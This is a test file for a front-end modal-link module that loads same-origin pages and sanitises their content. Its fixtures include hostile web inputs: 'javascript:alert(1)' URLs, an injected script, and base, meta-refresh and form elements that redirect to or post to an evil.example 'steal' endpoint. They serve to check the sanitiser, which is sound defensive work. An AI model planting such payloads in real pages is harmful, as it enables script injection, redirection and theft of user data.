import { describe, expect, it } from 'vitest';
import { extractContent, needsLoad, openingTitle, sameOrigin, type View } from './logic';

describe('modal-link', () => {
  it('loads same-origin http(s) pages only', () => {
    const origin = 'https://ir.example.com';
    expect(sameOrigin('/investors/faq', origin)).toBe(true);
    expect(sameOrigin('https://ir.example.com/a?b#c', origin)).toBe(true);
    expect(sameOrigin('https://evil.example.com/a', origin)).toBe(false);
    expect(sameOrigin('//evil.example.com/a', origin)).toBe(false);
    expect(sameOrigin('http://ir.example.com/a', origin)).toBe(false);
    expect(sameOrigin('javascript:alert(1)', origin)).toBe(false);
  });

  it('takes only the node content, drops scripts and renames ids that already exist here', () => {
    document.body.innerHTML = '<h2 id="contact">Here</h2>';
    const html = `<html><head><title>FAQ | Site</title></head><body>
      <header id="top">Chrome</header><h1 class="page-title"> Investor
        FAQ </h1>
      <article class="node"><div class="node__content">
        <h2 id="contact">Who?</h2><a href="#contact">back</a>
        <label for="contact">x</label><p aria-describedby="contact other">y</p>
        <h3 id="fresh">Fresh</h3><script>window.hacked = true</script>
      </div></article><footer>Footer</footer></body></html>`;
    const found = extractContent(html, document, 'modal-1')!;
    expect(found.title).toBe('Investor FAQ');
    const content = found.content;
    expect(content.ownerDocument).toBe(document);
    expect(content.querySelector('script')).toBeNull();
    expect(content.textContent).not.toContain('Chrome');
    expect(content.querySelector('h2')!.id).toBe('contact--modal-1');
    expect(content.querySelector('a')!.getAttribute('href')).toBe('#contact--modal-1');
    expect(content.querySelector('label')!.getAttribute('for')).toBe('contact--modal-1');
    expect(content.querySelector('p')!.getAttribute('aria-describedby')).toBe(
      'contact--modal-1 other',
    );
    expect(content.querySelector('h3')!.id).toBe('fresh');
  });

  it('drops document-level elements and forms that post to another origin; an icon keeps its title', () => {
    const html = `<div class="node__content">
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
      <link rel="icon" href="https://evil.example/x.png"><title>Owned</title><style>body{}</style>
      <form id="away" action="https://evil.example/steal"><input name="q"></form>
      <form id="here" action="/search"><input name="q">
        <button id="leak" formaction="//evil.example/steal">Go</button><button id="ok">Go</button></form>
      <form id="js" action="javascript:alert(1)"></form>
      <svg role="img"><title>Chart</title></svg><p>Kept</p></div>`;
    const content = extractContent(html, document)!.content;
    expect(content.querySelector('base, meta, link, style, #away, #leak, #js')).toBeNull();
    expect([...content.querySelectorAll('title')].map((el) => el.textContent)).toEqual(['Chart']);
    expect(content.querySelector('#here')).not.toBeNull();
    expect(content.querySelector('#ok')).not.toBeNull();
    expect(content.querySelector('svg title')!.textContent).toBe('Chart');
    expect(content.textContent).toContain('Kept');
  });

  it('finds nothing in a page without node content', () => {
    expect(extractContent('<h1>Not a node</h1><p>x</p>')).toBeNull();
    expect(extractContent('not html at all <<<')).toBeNull();
  });

  it('shows a page loaded from the same address again under its own title; anything else loads', () => {
    const content = document.createElement('div');
    const loaded: View = { kind: 'loaded', href: '/faq', title: 'Investor FAQ', content };
    expect(needsLoad(loaded, '/faq')).toBe(false);
    expect(openingTitle(loaded, '/faq', 'Read more', 'Dialog')).toBe('Investor FAQ');
    expect(needsLoad(loaded, '/board')).toBe(true);
    expect(openingTitle(loaded, '/board', ' Read\n  more ', 'Dialog')).toBe('Read more');
    const failed: View = { kind: 'failed', href: '/faq', title: 'FAQ' };
    expect(needsLoad(failed, '/faq')).toBe(true);
    expect(needsLoad({ kind: 'loading', href: '/faq', title: 'FAQ' }, '/faq')).toBe(true);
    expect(openingTitle({ kind: 'idle' }, '/faq', '  ', 'Dialog')).toBe('Dialog');
  });
});
